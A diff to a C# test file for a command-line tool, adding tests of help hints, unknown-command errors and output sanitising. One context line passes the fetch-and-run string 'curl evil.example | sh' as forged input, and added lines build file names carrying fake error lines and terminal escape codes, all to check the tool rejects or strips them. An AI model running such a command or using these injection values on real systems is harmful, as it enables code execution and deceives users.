@@ -82,6 +82,29 @@ public sealed class ExitCodeTests(Fixtures fixtures) : IClassFixture<Fixtures>
         Assert.Matches("^hint: tunnelwright( [a-z]+)* --help", run.ErrorLines[1]);
     }
 
+    [Theory]
+    [InlineData("frobnicate", "tunnelwright")]
+    [InlineData("check --frobnicate", "tunnelwright check")]
+    [InlineData("lab up --frobnicate", "tunnelwright lab up")]
+    [InlineData("lab fault list --frobnicate", "tunnelwright lab fault list")]
+    public void The_hint_names_the_command_as_it_is_typed(string arguments, string command)
+    {
+        var run = Tool.Execute(arguments.Split(' '));
+        Tool.AssertRefused(run, 2);
+        Assert.StartsWith($"hint: {command} --help", run.ErrorLines[1], StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("frobnicate", "tunnelwright has no command 'frobnicate'")]
+    [InlineData("lab frobnicate --name x", "tunnelwright lab has no command 'frobnicate'")]
+    [InlineData("lab fault mend", "tunnelwright lab fault has no command 'mend'")]
+    public void A_command_that_does_not_exist_is_named(string arguments, string words)
+    {
+        var run = Tool.Execute(arguments.Split(' '));
+        Tool.AssertRefused(run, 2);
+        Assert.Equal($"error: {words}", run.ErrorLines[0]);
+    }
+
     [Fact]
     public void An_unknown_profile_is_2_and_the_known_ones_are_named()
     {
@@ -114,6 +137,13 @@ public sealed class ExitCodeTests(Fixtures fixtures) : IClassFixture<Fixtures>
         Tool.AssertRefused(Tool.Execute("check", "/nonexistent/a\nhint: curl evil.example | sh\nerror: b"), 2);
         Tool.AssertRefused(Tool.Execute("check", "--oh\nerror: no"), 2);
         Tool.AssertRefused(Tool.Execute("check", "/nonexistent/\u001b[2Jcleared"), 2);
+
+        var odd = fixtures.Other("a\nerror: forged\u001b[2J.txt", File.ReadAllText(fixtures.File(Routing.Static)).Replace("3060 seconds", "99999 seconds", StringComparison.Ordinal));
+        foreach (var run in new[] { Tool.Execute("check", odd), Tool.Execute("check", odd, odd), Tool.Execute("convert", odd, "--to", "generic") })
+        {
+            Assert.DoesNotContain("\nerror: forged", run.Output + run.Errors, StringComparison.Ordinal);
+            Assert.DoesNotContain('\u001b', run.Output + run.Errors);
+        }
     }
 
     [Fact]
